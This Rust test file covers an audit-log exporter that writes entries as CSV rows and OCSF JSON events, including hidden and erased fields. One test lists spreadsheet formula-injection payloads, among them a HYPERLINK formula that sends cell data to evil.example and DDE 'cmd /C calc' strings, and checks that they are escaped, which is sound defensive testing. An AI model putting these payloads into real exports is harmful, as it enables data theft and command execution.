use super::*;
use crate::{Entry, Fields, Name, Secrets};
use proptest::prelude::*;
use serde_json::{Value, json};

const SECRETS: Secrets = Secrets { open: [1; 16], personal: [2; 16] };

fn written(view: View, values: Vec<(Name, Value)>, hidden: &[Name]) -> String {
    told(view, values, hidden, hidden)
}

/// As an archive that hides `hidden` tells an entry of which `unseen` cannot be seen.
fn told(view: View, values: Vec<(Name, Value)>, unseen: &[Name], hidden: &[Name]) -> String {
    let entry = Entry::new(values, SECRETS).unwrap();
    let fields = Fields::read(entry.fields(), None, Some(SECRETS.open), Some(SECRETS.personal)).unwrap();
    let fields = fields.hide(unseen.iter().copied().collect()).unwrap();
    let mut out = view.head();
    let line = Line { seq: 7, leaf: entry.leaf(), fields };
    view.row("localhost/log", &line, hidden.iter().copied().collect(), &mut out);
    out
}

/// What a spreadsheet makes of the text: rows of cells.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

proptest! {
    #[test]
    fn no_cell_is_a_formula_and_none_spills_into_another(
        text in "[=+@\\-\t\r\n\",;'a1(|!]{0,12}", start in "[=+@\\-\t\r]?",
    ) {
        let note = format!("{start}{text}");
        let rows = cells(&written(View::Csv, vec![(Name::Note, json!(note)), (Name::Seq, json!(7))], &[]));
        prop_assert_eq!(rows.len(), 2);
        prop_assert_eq!(rows[1].len(), 26);
        let cell = &rows[1][Name::Note.place()];
        prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{:?}", cell);
        prop_assert_eq!(cell.strip_prefix('\'').filter(|c| *c == note).unwrap_or(cell), note);
    }
}

#[test]
fn known_injections_are_text() {
    for attack in [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\u{ff1d}1+1",
    ] {
        let rows = cells(&written(View::Csv, vec![(Name::Note, json!(attack))], &[]));
        assert_eq!(rows[1][Name::Note.place()], format!("'{attack}"));
    }
}

#[test]
fn a_row_tells_absent_hidden_and_lists_apart() {
    let values = vec![
        (Name::Country, json!("FR")),
        (Name::Claims, json!(["name:full", "birth:over-18"])),
        (Name::Action, json!("disclosed")),
    ];
    let rows = cells(&written(View::Csv, values, &[Name::Country]));
    assert_eq!(rows[0][Name::Country.place()], "country");
    assert_eq!(rows[1][Name::Country.place()], "(hidden)");
    assert_eq!(rows[1][Name::Claims.place()], r#"["name:full","birth:over-18"]"#);
    assert_eq!(rows[1][Name::Consent.place()], "");
    assert_eq!(rows[1][25].len(), 64);
}

#[test]
fn what_was_erased_is_told_apart_from_what_is_hidden() {
    let values = || vec![(Name::Action, json!("disclosed")), (Name::Country, json!("FR"))];
    let unseen = [&Name::PERSONAL[..], &[Name::Country]].concat();
    let rows = cells(&told(View::Csv, values(), &unseen, &[Name::Country]));
    assert_eq!(rows[1][Name::Country.place()], "(hidden)");
    for name in Name::PERSONAL {
        assert_eq!(rows[1][name.place()], "(erased)");
    }
    let event: Value = serde_json::from_str(&told(View::Ocsf, values(), &unseen, &[Name::Country])).unwrap();
    assert_eq!(
        event["unmapped"],
        json!({"erased": ["subject", "prev", "commitment"], "action": "disclosed"})
    );
    // Nothing is seen, and nothing was erased.
    let event: Value = serde_json::from_str(&told(View::Ocsf, values(), &Name::ALL, &Name::ALL)).unwrap();
    assert_eq!(event["unmapped"], json!({}));
    let event: Value = serde_json::from_str(&told(View::Ocsf, values(), &Name::ALL, &[])).unwrap();
    assert_eq!(event["unmapped"]["erased"].as_array().unwrap().len(), 25);
}

#[test]
fn every_event_has_what_its_class_requires() {
    let base = ["activity_id", "category_uid", "class_uid", "metadata", "severity_id", "time", "type_uid"];
    for (action, class, also) in [
        ("signed_in", 3002, "user"),
        ("token_issued", 3003, "user"),
        ("client_registered", 3005, "user"),
        ("exported", 6005, "database"),
        ("enrolled", 6003, "api"),
        ("key_rotated", 6003, "api"),
        ("disclosed", DISCLOSURE, "actor"),
        ("consent_withdrawn", DISCLOSURE + 1, "actor"),
    ] {
        let values = vec![
            (Name::Action, json!(action)),
            (Name::Time, json!(1_780_000_000_000i64)),
            (Name::Actor, json!("client:\"x\"")),
            (Name::Note, json!("two\nlines")),
        ];
        let text = written(View::Ocsf, values, &[]);
        assert_eq!(text.lines().count(), 1);
        let event: Value = serde_json::from_str(&text).unwrap();
        for name in base.into_iter().chain([also]) {
            assert!(event.get(name).is_some(), "{action}: {name}");
        }
        assert_eq!(event["class_uid"], class, "{action}");
        let activity = event["activity_id"].as_u64().unwrap();
        assert_eq!(event["type_uid"], u64::from(class) * 100 + activity);
        assert_eq!(event["unmapped"]["note"], "two\nlines");
        assert_eq!(event["metadata"]["sequence"], 7);
    }
}

const DISCLOSURE: u32 = 99_906_001;
